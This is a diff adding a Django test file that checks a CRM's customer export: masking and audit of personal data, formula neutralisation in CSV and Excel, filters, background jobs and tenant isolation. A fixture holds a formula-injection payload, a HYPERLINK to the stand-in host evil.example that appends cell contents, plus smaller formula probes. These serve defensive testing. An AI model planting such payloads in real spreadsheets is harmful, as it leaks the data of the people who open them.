@@ -1,0 +1,235 @@
+"""Customer export: masking and its audit, formula injection, the filter, segments, selections, tenant isolation."""
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from django.utils import translation
+from django.utils.html import escape
+
+from scrm.models import (
+    Channel,
+    ChannelIdentity,
+    Customer,
+    CustomerExport,
+    PiiReveal,
+    Region,
+    Role,
+    Segment,
+    Tag,
+    TagGroup,
+)
+from scrm.phones import mask_mobile, national_mobile
+from scrm.services import customer_export
+from scrm.services.customer_export import COLUMNS, MSG_XLSX_TOO_MANY, REVEALED_FIELDS
+from scrm.services.customer_import import customer_import_upload, customer_import_validate
+from scrm.tenancy import tenant_scope
+from tests.tenancy import assert_isolated, tenant_pair
+
+pytestmark = pytest.mark.django_db
+
+EXPORT_URL = "/customers/export/"
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+@pytest.fixture
+def customers(scoped):
+    group = TagGroup.objects.create(organization=scoped, name="客户类型")
+    vip_tag = Tag.objects.create(organization=scoped, group=group, name="老客户")
+    region = Region.objects.create(organization=scoped, name="华东大区", code="EAST", level=Region.Level.AREA,
+                                   path="/EAST/")
+    zhang = Customer.objects.create(
+        organization=scoped, display_name="张三", real_name="张三丰", mobile="+8613812345678",
+        email="zhang@example.com", level=Customer.Level.VIP, region=region,
+        last_contact_at=datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
+    )
+    zhang.tags.add(vip_tag, through_defaults={"organization": scoped})
+    ChannelIdentity.objects.create(organization=scoped, customer=zhang, channel=Channel.WECHAT_OA, external_id="o1")
+    evil = Customer.objects.create(organization=scoped, display_name=EVIL, real_name="@SUM(1+1)",
+                                   email="-2+3@example.com")
+    plain = Customer.objects.create(organization=scoped, display_name="李四")
+    # created_at is set on insert; give the first a known instant to check the time zone.
+    Customer.objects.filter(pk=zhang.pk).update(created_at=datetime(2026, 1, 31, 20, 5, tzinfo=UTC))
+    return {"zhang": zhang, "evil": evil, "plain": plain}
+
+
+def _csv(response):
+    assert response.status_code == 200, response.status_code
+    body = b"".join(response.streaming_content)
+    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    return rows[0], {row[0]: row for row in rows[1:]}
+
+
+def _xlsx(response):
+    assert response.status_code == 200, response.status_code
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    rows = list(sheet.iter_rows())
+    return [c.value for c in rows[0]], {row[0].value: row for row in rows[1:]}
+
+
+def _zh(*texts):
+    """Texts as the export writes them: in the UI's language, Chinese unless the user switched."""
+    with translation.override("zh-hans"):
+        return [str(text) for text in texts]
+
+
+def _client(user):
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def test_an_agent_gets_masked_personal_data_and_no_reveal_is_recorded(customers, agent):
+    _titles, rows = _csv(_client(agent).get(EXPORT_URL, {"format": "csv"}))
+    assert rows["张三"][1:3] == ["138****5678", "张**"]
+    assert not PiiReveal.objects.exists()
+
+
+def test_an_ops_admin_gets_full_personal_data_and_each_reveal_is_recorded(customers, ops_admin):
+    titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv"}))
+
+    assert titles == _zh(*(title for _name, title in COLUMNS))
+    assert rows["张三"] == ["张三", "13812345678", "张三丰", "zhang@example.com", *_zh(Customer.Level.VIP.label),
+                          "华东大区", "老客户", "", *_zh(Channel.WECHAT_OA.label), "2026-02-01 04:05",
+                          "2026-03-02 00:30"]
+    # One reveal per exported customer that has a mobile or a real name (李四 has neither).
+    reveals = PiiReveal.objects.order_by("customer_id")
+    assert [(r.customer_id, r.user_id, r.fields) for r in reveals] == [
+        (customers["zhang"].pk, ops_admin.pk, REVEALED_FIELDS), (customers["evil"].pk, ops_admin.pk, REVEALED_FIELDS)]
+
+
+def test_a_revealer_may_ask_for_a_masked_file_and_then_nothing_is_recorded(customers, ops_admin):
+    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "pii": "masked"}))
+    assert rows["张三"][1:3] == ["138****5678", "张**"]
+    assert not PiiReveal.objects.exists()
+
+
+def test_formulas_are_neutralised_in_csv(customers, ops_admin):
+    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv"}))
+    row = rows["'" + EVIL]
+    assert (row[2], row[3]) == ("'@SUM(1+1)", "'-2+3@example.com")
+
+
+def test_formulas_are_neutralised_in_xlsx_and_dates_are_shanghai_time(customers, ops_admin):
+    titles, rows = _xlsx(_client(ops_admin).get(EXPORT_URL, {"format": "xlsx"}))
+
+    assert titles == _zh(*(title for _name, title in COLUMNS))
+    evil = rows["'" + EVIL]
+    assert all(cell.data_type != "f" for cell in evil)
+    assert (evil[2].value, evil[3].value) == ("'@SUM(1+1)", "'-2+3@example.com")
+    zhang = rows["张三"]
+    assert zhang[1].value == "13812345678"
+    # 20:05 UTC is 04:05 the next day in Shanghai; Excel has no time zones, so the cell holds Shanghai time.
+    assert zhang[9].value.isoformat() == "2026-02-01T04:05:00"
+    assert PiiReveal.objects.count() == 2
+
+
+def test_the_list_filter_limits_the_rows(customers, ops_admin):
+    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "level": "vip"}))
+    assert list(rows) == ["张三"]
+    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "q": "李"}))
+    assert list(rows) == ["李四"]
+    # Only what was exported is recorded.
+    assert PiiReveal.objects.count() == 1
+
+
+def test_a_segment_exports_its_saved_filter(customers, ops_admin, scoped):
+    segment = Segment.objects.create(organization=scoped, name="VIP", query="level=vip", created_by=ops_admin)
+    _titles, rows = _csv(_client(ops_admin).get(EXPORT_URL, {"format": "csv", "segment": segment.pk}))
+    assert list(rows) == ["张三"]
+
+
+def test_a_selection_exports_exactly_the_chosen_customers(customers, ops_admin):
+    chosen = [customers["plain"].pk, customers["zhang"].pk]
+    response = _client(ops_admin).post(EXPORT_URL, {"ids": chosen, "format": "csv"})
+    _titles, rows = _csv(response)
+    assert set(rows) == {"张三", "李四"}
+
+
+def test_the_export_page_says_how_many_and_how(customers, ops_admin, agent):
+    page = _client(ops_admin).get(EXPORT_URL, {"level": "vip"}).content.decode()
+    assert 'data-testid="export-reveal"' in page and "level=vip&amp;format=csv" in page
+    page = _client(agent).get(EXPORT_URL).content.decode()
+    assert 'data-testid="export-masked"' in page and "3" in page
+    page = _client(agent).get(EXPORT_URL, {"q": "nobody"}).content.decode()
+    assert 'data-testid="export-empty"' in page
+
+
+@pytest.mark.parametrize("sync_rows", [20_000, 1], ids=["in the request", "in the background"])
+def test_excel_refuses_more_rows_than_its_cap_with_a_clear_message(customers, ops_admin, monkeypatch, sync_rows):
+    monkeypatch.setattr(customer_export, "XLSX_MAX_ROWS", 2)
+    monkeypatch.setattr(customer_export, "SYNC_EXPORT_ROWS", sync_rows)
+    client = _client(ops_admin)
+    response = client.get(EXPORT_URL, {"format": "xlsx", "level": ["vip", "normal"]}, follow=True)
+    assert response.redirect_chain[-1][0] == f"{EXPORT_URL}?level=vip&level=normal"
+    assert escape(str(MSG_XLSX_TOO_MANY % {"limit": "2", "count": "3"})) in response.content.decode()
+    assert not PiiReveal.objects.exists()
+    assert not CustomerExport.objects.exists()
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_large_export_is_produced_in_the_background_for_its_requester_only(
+        customers, ops_admin, make_user, monkeypatch, eager_tasks, django_capture_on_commit_callbacks, file_format):
+    monkeypatch.setattr(customer_export, "SYNC_EXPORT_ROWS", 2)
+    client = _client(ops_admin)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.get(EXPORT_URL, {"format": file_format})
+    job = CustomerExport.objects.get()
+    assert response.status_code == 302 and response["Location"] == f"{EXPORT_URL}{job.pk}/"
+
+    page = client.get(response["Location"]).content.decode()
+    assert 'data-status="done"' in page and 'data-testid="export-download"' in page
+    download = client.get(f"{EXPORT_URL}{job.pk}/download/")
+    if file_format == "csv":
+        _titles, rows = _csv(download)
+        assert rows["张三"][1] == "13812345678"
+    else:
+        _titles, rows = _xlsx(download)
+        assert rows["张三"][1].value == "13812345678"
+        assert rows["'" + EVIL][0].data_type == "s"
+    assert len(rows) == 3
+    assert PiiReveal.objects.filter(user=ops_admin).count() == 2
+
+    colleague = _client(make_user(ops_admin.organization, Role.OPS_ADMIN))
+    for suffix in ("", "progress/", "download/"):
+        assert colleague.get(f"{EXPORT_URL}{job.pk}/{suffix}").status_code == 404
+
+
+def test_a_full_export_imports_back_as_updates_of_the_same_customers(customers, ops_admin):
+    """What people do: export, edit in Excel, import. Our titles, region names, tags and levels read back."""
+    response = _client(ops_admin).get(EXPORT_URL, {"format": "xlsx", "level": "vip"})
+    content = b"".join(response.streaming_content)
+    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
+                                   file=SimpleUploadedFile("customers.xlsx", content))
+    batch = customer_import_validate(batch_id=batch.pk)
+
+    assert (batch.new_count, batch.update_count, batch.error_count) == (0, 1, 0)
+    assert batch.preview[0]["customer_id"] == customers["zhang"].pk
+    assert batch.preview[0]["region"] == "华东大区"
+
+
+def test_agents_export_only_within_their_organization(db):
+    def seed(tenant):
+        Customer.objects.create(organization=tenant.organization, display_name=f"{tenant.marker} 张三",
+                                mobile="+8613812345678")
+
+    a, b = tenant_pair(seed)
+    for role in (Role.OPS_ADMIN, Role.AGENT):
+        assert_isolated(Client(), a, b, f"{EXPORT_URL}?format=csv", role=role)
+        assert_isolated(Client(), a, b, f"{EXPORT_URL}?format=xlsx", role=role, expect_marker=False)
+    # Ids of another organization select nothing.
+    with tenant_scope(b.organization):
+        b_ids = list(Customer.objects.values_list("pk", flat=True))
+    _titles, rows = _csv(_client(a.users[Role.OPS_ADMIN]).post(EXPORT_URL, {"ids": b_ids, "format": "csv"}))
+    assert rows == {}
+
+
+@pytest.mark.parametrize("e164", ["+8613812345678", "+8619912340000", "+85291234567", "+14155550123"])
+def test_the_fast_mobile_formatting_matches_the_phone_helpers(e164):
+    assert customer_export.export_mobile(e164, reveal=True) == national_mobile(e164)
+    assert customer_export.export_mobile(e164, reveal=False) == mask_mobile(e164)
